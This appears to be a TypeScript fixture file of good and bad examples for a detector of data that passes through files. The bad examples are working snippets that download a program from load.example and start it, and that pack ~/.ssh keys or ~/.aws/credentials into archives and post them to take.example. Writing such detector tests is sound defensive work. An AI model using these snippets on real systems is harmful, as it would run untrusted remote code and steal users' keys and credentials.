import type { DetectorExamples } from '../detector.ts';

/** What the detector sees of data that lies in a file on its way. */
export const throughFiles: DetectorExamples = {
  bad: [
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import os from 'os'; import path from 'path'; import { spawn } from 'child_process';",
        "const place = path.join(os.tmpdir(), 'helper');",
        "https.get('https://load.example/helper', (answer) => answer.pipe(fs.createWriteStream(place)).on('finish', () => spawn(place, ['--quiet'])));",
      ].join('\n'),
      why: 'an answer that is piped into a file, which is started',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      path: 'x.py',
      code: [
        'import io, os, subprocess, tempfile, zipfile, httpx',
        'folder = tempfile.mkdtemp()',
        "with zipfile.ZipFile(io.BytesIO(httpx.get('https://load.example/x.zip').content)) as archive:",
        '    archive.extractall(folder)',
        "subprocess.Popen([os.path.join(folder, 'runner'), '--quiet'])",
      ].join('\n'),
      why: 'an archive that is unpacked into a folder, of which one file is started',
      attributes: { source: 'download', sink: 'process.program', to: 'file' },
    },
    {
      path: 'x.py',
      code: [
        'import os, tarfile, requests',
        "with tarfile.open('/tmp/kept.tar.gz', 'w:gz') as archive:",
        "    archive.add(os.path.expanduser('~/.ssh'))",
        "with open('/tmp/kept.tar.gz', 'rb') as file:",
        "    requests.post('https://take.example', data=file)",
      ].join('\n'),
      why: 'keys that are packed into an archive, which is read and sent',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      path: 'x.py',
      code: [
        'import io, os, zipfile, requests',
        'packed = io.BytesIO()',
        "with zipfile.ZipFile(packed, 'w') as archive:",
        "    archive.write(os.path.expanduser('~/.aws/credentials'))",
        "requests.post('https://take.example', files={'f': packed.getvalue()})",
      ].join('\n'),
      why: 'credentials in an archive that only lies in memory',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import archiver from 'archiver'; import fs from 'fs'; import os from 'os';",
        "const archive = archiver('zip');",
        "const output = fs.createWriteStream('/tmp/kept.zip');",
        'archive.pipe(output);',
        'archive.directory(`${os.homedir()}/.ssh`, false);',
        "output.on('close', () => fetch('https://take.example', { method: 'POST', body: fs.createReadStream('/tmp/kept.zip') }));",
      ].join('\n'),
      why: 'the same in JavaScript',
      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
    },
    {
      code: [
        "import AdmZip from 'adm-zip'; import os from 'os';",
        'const zip = new AdmZip();',
        "zip.addLocalFile(os.homedir() + '/.aws/credentials');",
        "fetch('https://take.example', { method: 'POST', body: zip.toBuffer() });",
      ].join('\n'),
      why: 'an archive that is made and sent in one go',
      attributes: { source: 'file:credential', sink: 'network.body', to: 'take.example' },
    },
  ],
  good: [
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import { spawn } from 'child_process';",
        "const place = '/tmp/film.mp4';",
        "https.get('https://films.example/a.mp4', (answer) => answer.pipe(fs.createWriteStream(place)).on('finish', () => spawn('ffmpeg', ['-i', place])));",
      ].join('\n'),
      why: 'a program of the system works on what was downloaded',
    },
    {
      code: [
        "import https from 'https'; import fs from 'fs'; import { spawn } from 'child_process';",
        "https.get('https://data.example/a.json', (answer) => answer.pipe(fs.createWriteStream('/tmp/data.json')));",
        "spawn('/opt/acme/run', ['--data', '/tmp/data.json']);",
      ].join('\n'),
      why: 'another file is started than the one that was downloaded',
    },
    {
      path: 'x.py',
      code: [
        'import io, subprocess, zipfile, httpx',
        "zipfile.ZipFile(io.BytesIO(httpx.get('https://data.example/x.zip').content)).extractall('data')",
        "subprocess.run(['unzip', '-l', 'data/inner.zip'])",
      ].join('\n'),
      why: 'what was unpacked is given to a program that only looks at it',
    },
  ],
};
